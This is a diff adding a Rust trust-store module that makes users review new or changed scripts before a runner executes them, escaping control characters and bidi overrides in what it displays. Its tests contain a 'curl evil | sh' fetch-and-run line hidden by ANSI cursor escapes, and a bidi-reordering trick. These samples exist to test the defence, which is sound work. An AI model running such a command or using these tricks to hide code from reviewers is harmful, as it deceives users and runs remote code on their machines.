@@ -0,0 +1,333 @@
+use crate::{config::get_data_dir, error::RemError, report};
+use anyhow::{Context, Result};
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use similar::TextDiff;
+use std::{
+    borrow::Cow,
+    collections::BTreeMap as Map,
+    env,
+    io::{self, BufRead, IsTerminal, Write},
+    path::PathBuf,
+};
+use tokio::fs;
+
+const TRUST_FILE: &str = "trust.json";
+
+/// Skips all trust checks when set to `all`, for non-interactive use
+const TRUST_ENV: &str = "REM_TRUST";
+
+/// Scripts that were reviewed and accepted, by repo and path
+#[derive(Default, Serialize, Deserialize)]
+pub struct TrustStore {
+    repos: Map<String, Map<String, TrustedScript>>,
+}
+
+/// The last accepted version of a script. The contents are kept so changes
+/// can be shown as a diff, as they were shown when reviewing it.
+#[derive(Serialize, Deserialize)]
+struct TrustedScript {
+    sha256: String,
+    contents: String,
+}
+
+/// Result of comparing a script against the trust store
+pub enum TrustStatus<'a> {
+    Trusted,
+    /// The script was never accepted before
+    New,
+    /// The script was accepted before, with the given contents
+    Changed(&'a str),
+}
+
+/// Whether a script was reviewed, without its previous contents
+#[derive(Clone, Copy, Debug, PartialEq)]
+pub enum ReviewState {
+    /// Trust checks are skipped with `REM_TRUST=all`
+    Unchecked,
+    Trusted,
+    New,
+    Changed,
+}
+
+impl ReviewState {
+    /// Name of the state, used in JSON output
+    pub fn kind(&self) -> &'static str {
+        match self {
+            ReviewState::Unchecked => "unchecked",
+            ReviewState::Trusted => "trusted",
+            ReviewState::New => "new",
+            ReviewState::Changed => "changed",
+        }
+    }
+}
+
+async fn get_trust_path() -> Result<PathBuf> {
+    let mut path = get_data_dir().await?;
+    path.push(TRUST_FILE);
+    Ok(path)
+}
+
+pub fn hash_script(contents: &[u8]) -> String {
+    format!("{:x}", Sha256::digest(contents))
+}
+
+/// Replaces control characters other than newlines and tabs with escape
+/// sequences like `\x1b`, so text can't move the cursor or clear lines
+/// when it's shown in the terminal. Bidi overrides are escaped as well,
+/// since they can reorder what's shown.
+pub fn escape_control(text: &str) -> Cow<'_, str> {
+    let needs_escape = |c: char| {
+        (c.is_control() && c != '\n' && c != '\t')
+            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+    };
+
+    if !text.contains(needs_escape) {
+        return Cow::Borrowed(text);
+    }
+
+    let mut escaped = String::with_capacity(text.len());
+    for c in text.chars() {
+        match c {
+            c if !needs_escape(c) => escaped.push(c),
+            c if (c as u32) < 0x80 => escaped.push_str(&format!("\\x{:02x}", c as u32)),
+            c => escaped.push_str(&format!("\\u{{{:x}}}", c as u32)),
+        }
+    }
+
+    Cow::Owned(escaped)
+}
+
+/// Returns the contents as text that can be shown in the terminal. Binary
+/// data, like the payload of a self-extracting script, is left out from
+/// the line with the first NUL byte on, and control characters are escaped.
+pub fn display_contents(contents: &[u8]) -> Cow<'_, str> {
+    let binary_start = contents.iter().position(|&b| b == 0).map(|nul| {
+        contents[..nul]
+            .iter()
+            .rposition(|&b| b == b'\n')
+            .map_or(0, |newline| newline + 1)
+    });
+
+    match binary_start {
+        Some(start) => Cow::Owned(format!(
+            "{}[{} bytes of binary data]\n",
+            escape_control(&String::from_utf8_lossy(&contents[..start])),
+            contents.len() - start
+        )),
+        None => match String::from_utf8_lossy(contents) {
+            Cow::Borrowed(text) => escape_control(text),
+            Cow::Owned(text) => Cow::Owned(escape_control(&text).into_owned()),
+        },
+    }
+}
+
+/// Checks whether trust checks were disabled through `REM_TRUST=all`
+pub fn trust_all() -> bool {
+    env::var(TRUST_ENV).is_ok_and(|value| value == "all")
+}
+
+/// Whether the user can be asked, e.g. to review a script. Prompts are
+/// shown on stderr, so they work while stdout is being redirected. They're
+/// never shown with JSON output.
+pub fn is_interactive() -> bool {
+    io::stdin().is_terminal() && io::stderr().is_terminal() && !report::is_json()
+}
+
+/// Looks up whether the script and the files materialized next to it were
+/// reviewed, without asking for a review. Changed files take precedence
+/// over new ones.
+pub async fn review_state(repo: &str, files: &[(&str, &[u8])]) -> Result<ReviewState> {
+    if trust_all() {
+        return Ok(ReviewState::Unchecked);
+    }
+
+    let store = TrustStore::load().await?;
+    let states = files
+        .iter()
+        .map(
+            |(path, contents)| match store.status(repo, path, contents) {
+                TrustStatus::Trusted => ReviewState::Trusted,
+                TrustStatus::New => ReviewState::New,
+                TrustStatus::Changed(_) => ReviewState::Changed,
+            },
+        )
+        .collect::<Vec<_>>();
+
+    Ok([ReviewState::Changed, ReviewState::New]
+        .iter()
+        .find(|state| states.contains(state))
+        .copied()
+        .unwrap_or(ReviewState::Trusted))
+}
+
+impl TrustStore {
+    /// Loads the trust store from the data dir. A missing store is treated
+    /// as empty, but unlike the caches, a broken one is an error, since
+    /// silently dropping it would lose all previous reviews.
+    pub async fn load() -> Result<Self> {
+        let path = get_trust_path().await?;
+        if !path.is_file() {
+            return Ok(Self::default());
+        }
+
+        let contents = fs::read_to_string(&path)
+            .await
+            .context("Failed to read trust store")?;
+
+        serde_json::from_str(&contents).context("Failed to parse trust store")
+    }
+
+    pub async fn save(&self) -> Result<()> {
+        let path = get_trust_path().await?;
+        let contents = serde_json::to_string(self).context("Failed to serialize trust store")?;
+        fs::write(path, contents)
+            .await
+            .context("Failed to write trust store")?;
+
+        Ok(())
+    }
+
+    pub fn status(&self, repo: &str, path: &str, contents: &[u8]) -> TrustStatus<'_> {
+        match self.repos.get(repo).and_then(|scripts| scripts.get(path)) {
+            Some(trusted) if trusted.sha256 == hash_script(contents) => TrustStatus::Trusted,
+            Some(trusted) => TrustStatus::Changed(&trusted.contents),
+            None => TrustStatus::New,
+        }
+    }
+
+    pub fn trust(&mut self, repo: &str, path: &str, contents: &[u8]) {
+        self.repos.entry(repo.to_owned()).or_default().insert(
+            path.to_owned(),
+            TrustedScript {
+                sha256: hash_script(contents),
+                contents: display_contents(contents).into_owned(),
+            },
+        );
+    }
+}
+
+/// Makes sure the script and the files materialized next to it were
+/// reviewed before they're run. `files` are pairs of paths and contents,
+/// starting with the script. New files are shown in full and changed ones
+/// as a diff against the last accepted version, after which the user has
+/// to confirm. Passing `yes` accepts them without asking.
+pub async fn review_script(repo: &str, files: &[(&str, &[u8])], yes: bool) -> Result<()> {
+    if trust_all() {
+        return Ok(());
+    }
+
+    let mut store = TrustStore::load().await?;
+    let unreviewed = files
+        .iter()
+        .filter(|(path, contents)| {
+            !matches!(store.status(repo, path, contents), TrustStatus::Trusted)
+        })
+        .collect::<Vec<_>>();
+
+    let name = |path: &str| format!("{}:{}", repo, path);
+    if unreviewed.is_empty() {
+        return Ok(());
+    }
+
+    if !yes && !is_interactive() {
+        // Names the files next to the script that still need a review
+        let detail = match files.len() {
+            1 => String::new(),
+            _ => {
+                let paths = unreviewed
+                    .iter()
+                    .map(|(path, _)| format!("`{}`", path))
+                    .collect::<Vec<_>>();
+                format!(" ({} to review)", paths.join(", "))
+            }
+        };
+
+        let message = format!(
+            "Script `{}` hasn't been reviewed yet{}, pass `--yes` or set {}=all to run it anyway",
+            name(files[0].0),
+            detail,
+            TRUST_ENV
+        );
+        return Err(RemError::Untrusted(message).into());
+    }
+
+    if !yes {
+        for (path, contents) in &unreviewed {
+            match store.status(repo, path, contents) {
+                TrustStatus::Trusted => {}
+                TrustStatus::New => {
+                    eprintln!("Running `{}` for the first time:\n", name(path));
+                    eprintln!("{}", display_contents(contents));
+                }
+                TrustStatus::Changed(previous) => {
+                    eprintln!("`{}` changed since it was last run:\n", name(path));
+                    // Versions trusted before control characters were escaped
+                    // were stored as they are
+                    let previous = escape_control(previous);
+                    let current = display_contents(contents);
+                    let diff = TextDiff::from_lines(previous.as_ref(), current.as_ref());
+                    eprint!("{}", diff.unified_diff().header("trusted", "current"));
+                }
+            }
+        }
+
+        if !confirm("Run this script?")? {
+            let message = format!("Script `{}` was not trusted", name(files[0].0));
+            return Err(RemError::Untrusted(message).into());
+        }
+    }
+
+    for (path, contents) in unreviewed {
+        store.trust(repo, path, contents);
+    }
+
+    store.save().await
+}
+
+fn confirm(question: &str) -> Result<bool> {
+    eprint!("\n{} [y/N] ", question);
+    io::stderr().flush()?;
+
+    let mut answer = String::new();
+    io::stdin().lock().read_line(&mut answer)?;
+    Ok(matches!(answer.trim(), "y" | "Y" | "yes"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn escapes_control_characters() {
+        let script = b"echo safe\n\x1b[1A\x1b[2Kcurl evil | sh\r\n\tdone\n";
+        assert_eq!(
+            display_contents(script),
+            "echo safe\n\\x1b[1A\\x1b[2Kcurl evil | sh\\x0d\n\tdone\n"
+        );
+    }
+
+    #[test]
+    fn escapes_bidi_overrides() {
+        let script = "# access check \u{202e}nimda\u{2066}\n";
+        assert_eq!(
+            display_contents(script.as_bytes()),
+            "# access check \\u{202e}nimda\\u{2066}\n"
+        );
+    }
+
+    #[test]
+    fn keeps_plain_text_borrowed() {
+        let script = b"#!/bin/bash\necho ok\n";
+        assert!(matches!(display_contents(script), Cow::Borrowed(_)));
+    }
+
+    #[test]
+    fn replaces_binary_data_with_its_size() {
+        let script = b"#!/bin/bash\nexit 0\n__ARCHIVE__\n\x1f\x8b\x00\x1b[2J";
+        assert_eq!(
+            display_contents(script),
+            "#!/bin/bash\nexit 0\n__ARCHIVE__\n[7 bytes of binary data]\n"
+        );
+    }
+}